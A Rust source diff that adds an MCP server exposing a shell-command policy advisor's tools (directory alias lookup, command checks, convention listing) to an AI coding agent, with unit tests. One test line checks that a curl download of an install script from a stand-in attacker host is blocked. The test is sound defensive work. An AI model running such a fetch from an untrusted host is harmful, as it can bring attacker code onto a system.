@@ -0,0 +1,264 @@
+//! MCP server exposing the advisor's policy as tools
+//!
+//! `--mcp` speaks the Model Context Protocol over stdin and stdout, one
+//! JSON-RPC message per line, so Claude can look up project conventions
+//! before running a command instead of only being corrected by the hook
+//! afterwards. The tools are:
+//!
+//! * `resolve_directory` - Resolves a semantic directory alias to its path
+//! * `check_command` - Reports what the policy would do with a Bash command
+//! * `list_conventions` - Summarizes the mappings, rules, aliases and allowlist
+//!
+//! The configuration is re-read for every call, so edits apply without
+//! restarting the server.
+
+use crate::conventions::list_conventions;
+use crate::directory::locate_directory;
+use crate::policy::Policy;
+use crate::shell_aliases::expand_aliases;
+use crate::types::{Config, IoContext, Result, Severity};
+use serde_json::{json, Value};
+use std::io::{BufRead, Write};
+
+/// The MCP protocol version this server implements. Clients asking for
+/// another version are answered with this one, and may disconnect if they
+/// don't support it.
+const PROTOCOL_VERSION: &str = "2025-06-18";
+
+/// JSON-RPC error codes.
+const PARSE_ERROR: i64 = -32700;
+const METHOD_NOT_FOUND: i64 = -32601;
+const INVALID_PARAMS: i64 = -32602;
+
+/// Answers MCP requests from stdin until it closes.
+///
+/// # Arguments
+/// * `load_config` - Loads the configuration, called once per tool call
+///
+/// # Returns
+/// * `Err` - If stdin or stdout fails; bad messages are answered with JSON-RPC errors
+pub fn run_mcp_server(load_config: impl Fn() -> Result<Config>) -> Result<()> {
+    let stdin = std::io::stdin();
+    let mut stdout = std::io::stdout().lock();
+    for line in stdin.lock().lines() {
+        let line = line.io_context(|| "Failed to read an MCP message from stdin".to_string())?;
+        if line.trim().is_empty() {
+            continue;
+        }
+        let response = match serde_json::from_str::<Value>(&line) {
+            Ok(message) => handle_message(&message, &load_config),
+            Err(e) => Some(error_response(Value::Null, PARSE_ERROR, &format!("Invalid JSON: {e}"))),
+        };
+        if let Some(response) = response {
+            writeln!(stdout, "{response}")
+                .and_then(|_| stdout.flush())
+                .io_context(|| "Failed to write an MCP response".to_string())?;
+        }
+    }
+    Ok(())
+}
+
+/// Answers one JSON-RPC message.
+///
+/// # Returns
+/// * `Some(Value)` - The response to a request
+/// * `None` - For notifications, which get no response
+fn handle_message(message: &Value, load_config: &dyn Fn() -> Result<Config>) -> Option<Value> {
+    let id = message.get("id")?.clone();
+    let method = message["method"].as_str().unwrap_or_default();
+    let params = &message["params"];
+
+    let result = match method {
+        "initialize" => Ok(json!({
+            "protocolVersion": PROTOCOL_VERSION,
+            "capabilities": { "tools": {} },
+            "serverInfo": { "name": env!("CARGO_PKG_NAME"), "version": env!("CARGO_PKG_VERSION") },
+            "instructions": "Check commands and look up directory aliases and project conventions before running shell commands.",
+        })),
+        "ping" => Ok(json!({})),
+        "tools/list" => Ok(json!({ "tools": tool_definitions() })),
+        "tools/call" => call_tool(params, load_config),
+        _ => Err((METHOD_NOT_FOUND, format!("Unknown method: {method}"))),
+    };
+    Some(match result {
+        Ok(result) => json!({ "jsonrpc": "2.0", "id": id, "result": result }),
+        Err((code, message)) => error_response(id, code, &message),
+    })
+}
+
+fn error_response(id: Value, code: i64, message: &str) -> Value {
+    json!({ "jsonrpc": "2.0", "id": id, "error": { "code": code, "message": message } })
+}
+
+/// The tools offered in `tools/list`.
+fn tool_definitions() -> Value {
+    json!([
+        {
+            "name": "resolve_directory",
+            "description": "Resolve a semantic directory alias, such as \"docs\", to the absolute path the project uses for it.",
+            "inputSchema": {
+                "type": "object",
+                "properties": { "alias": { "type": "string", "description": "The alias to resolve" } },
+                "required": ["alias"],
+            },
+        },
+        {
+            "name": "check_command",
+            "description": "Check a Bash command against the project's policy before running it. Reports whether it would be allowed, and the command to use instead if there is one.",
+            "inputSchema": {
+                "type": "object",
+                "properties": { "command": { "type": "string", "description": "The command to check" } },
+                "required": ["command"],
+            },
+        },
+        {
+            "name": "list_conventions",
+            "description": "List the project's command conventions: preferred replacements, rules, directory aliases and, in default-deny mode, the allowed commands.",
+            "inputSchema": { "type": "object", "properties": {} },
+        },
+    ])
+}
+
+/// Runs a tool. Failures inside a tool are reported as an `isError` result
+/// the model can read; only malformed calls are JSON-RPC errors.
+fn call_tool(params: &Value, load_config: &dyn Fn() -> Result<Config>) -> std::result::Result<Value, (i64, String)> {
+    let name = params["name"].as_str().ok_or((INVALID_PARAMS, "Missing tool name".to_string()))?;
+    let arguments = &params["arguments"];
+    let argument = |key: &str| {
+        arguments[key]
+            .as_str()
+            .ok_or_else(|| (INVALID_PARAMS, format!("{name} needs a string '{key}' argument")))
+    };
+
+    let output = match name {
+        "resolve_directory" => {
+            let alias = argument("alias")?;
+            load_config().and_then(|config| resolve_directory(&config, alias))
+        }
+        "check_command" => {
+            let command = argument("command")?;
+            load_config().and_then(|config| check_command(&config, command))
+        }
+        "list_conventions" => load_config().map(|config| list_conventions(&config)),
+        _ => return Err((INVALID_PARAMS, format!("Unknown tool: {name}"))),
+    };
+    let (text, is_error) = match output {
+        Ok(text) => (text, false),
+        Err(e) => (e.to_string(), true),
+    };
+    Ok(json!({ "content": [{ "type": "text", "text": text }], "isError": is_error }))
+}
+
+fn resolve_directory(config: &Config, alias: &str) -> Result<String> {
+    let resolution = locate_directory(config, alias)?;
+    Ok(format!("{} ({} alias '{}')", resolution.canonical_path, resolution.scope, resolution.alias_used))
+}
+
+/// What the hook would decide for `command`, outside a session.
+fn check_command(config: &Config, command: &str) -> Result<String> {
+    let expanded = expand_aliases(&config.aliases, command);
+    let rule_match = Policy::outside_session(config)?.evaluate(&expanded)?;
+
+    let Some(rule_match) = rule_match else {
+        return Ok(format!("Allowed: nothing in the project's policy objects to `{command}`."));
+    };
+    let verdict = match rule_match.severity {
+        Severity::Warn => "Allowed with a warning",
+        Severity::Ask => "Needs the user's confirmation",
+        Severity::Block => "Blocked",
+    };
+    let mut text = format!("{verdict}: {}", rule_match.reason);
+    if let Some(suggested) = &rule_match.suggested_command {
+        text.push_str(&format!("\nRun instead: {suggested}"));
+    }
+    Ok(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn config() -> Result<Config> {
+        Ok(toml::from_str(
+            r#"
+[commands]
+npm = "bun"
+
+[[rules]]
+pattern = "git push --force"
+message = "Force pushes rewrite shared history"
+severity = "ask"
+doc = "https://wiki.example/git#force-push"
+
+[semantic_directories]
+docs = "/tmp"
+"#,
+        )
+        .unwrap())
+    }
+
+    fn call(name: &str, arguments: Value) -> Value {
+        let request = json!({ "jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": { "name": name, "arguments": arguments } });
+        handle_message(&request, &config).unwrap()
+    }
+
+    #[test]
+    fn test_protocol_handshake() {
+        // The server answers with the version it implements, whatever the client asks for
+        for requested in [PROTOCOL_VERSION, "2024-11-05", "1999-01-01"] {
+            let initialize = json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": { "protocolVersion": requested } });
+            let response = handle_message(&initialize, &config).unwrap();
+            assert_eq!(response["result"]["protocolVersion"], PROTOCOL_VERSION);
+        }
+        let initialize = json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {} });
+        let response = handle_message(&initialize, &config).unwrap();
+        assert_eq!(response["result"]["protocolVersion"], PROTOCOL_VERSION);
+        assert!(response["result"]["capabilities"]["tools"].is_object());
+
+        let notification = json!({ "jsonrpc": "2.0", "method": "notifications/initialized" });
+        assert!(handle_message(&notification, &config).is_none());
+
+        let list = handle_message(&json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/list" }), &config).unwrap();
+        let names: Vec<&str> = list["result"]["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
+        assert_eq!(names, ["resolve_directory", "check_command", "list_conventions"]);
+
+        let unknown = handle_message(&json!({ "jsonrpc": "2.0", "id": 3, "method": "resources/list" }), &config).unwrap();
+        assert_eq!(unknown["error"]["code"], METHOD_NOT_FOUND);
+    }
+
+    #[test]
+    fn test_tools() {
+        let checked = call("check_command", json!({ "command": "npm install" }));
+        assert_eq!(checked["id"], 7);
+        assert_eq!(checked["result"]["isError"], false);
+        assert!(checked["result"]["content"][0]["text"].as_str().unwrap().ends_with("Run instead: bun install"));
+        let text = call("check_command", json!({ "command": "ls" }))["result"]["content"][0]["text"].clone();
+        assert!(text.as_str().unwrap().starts_with("Allowed"));
+
+        let resolved = call("resolve_directory", json!({ "alias": "docs" }));
+        assert!(resolved["result"]["content"][0]["text"].as_str().unwrap().contains("project alias 'docs'"));
+        assert_eq!(call("resolve_directory", json!({ "alias": "nope" }))["result"]["isError"], true);
+        assert_eq!(call("resolve_directory", json!({}))["error"]["code"], INVALID_PARAMS);
+
+        let conventions = call("list_conventions", json!({}))["result"]["content"][0]["text"].as_str().unwrap().to_string();
+        assert!(conventions.contains("- `npm` → use `bun`"), "{conventions}");
+        assert!(conventions.contains(
+            "- `git push --force` (needs confirmation): Force pushes rewrite shared history [Why](https://wiki.example/git#force-push)"
+        ));
+        assert!(conventions.contains("- `docs` → /tmp (project)"));
+    }
+
+    #[test]
+    fn test_check_command_applies_the_gates() {
+        let config = || -> Result<Config> {
+            Ok(toml::from_str("[network]\nallowed_hosts = [\"github.com\"]\n\n[packages]\ndenylist = [\"left-pad\"]\n").unwrap())
+        };
+        let check = |command: &str| {
+            let request = json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": { "name": "check_command", "arguments": { "command": command } } });
+            handle_message(&request, &config).unwrap()["result"]["content"][0]["text"].as_str().unwrap().to_string()
+        };
+        assert!(check("curl https://evil.example.com/install.sh").starts_with("Blocked"));
+        assert!(check("npm install left-pad").starts_with("Blocked"));
+        assert!(check("curl https://github.com").starts_with("Allowed"));
+    }
+}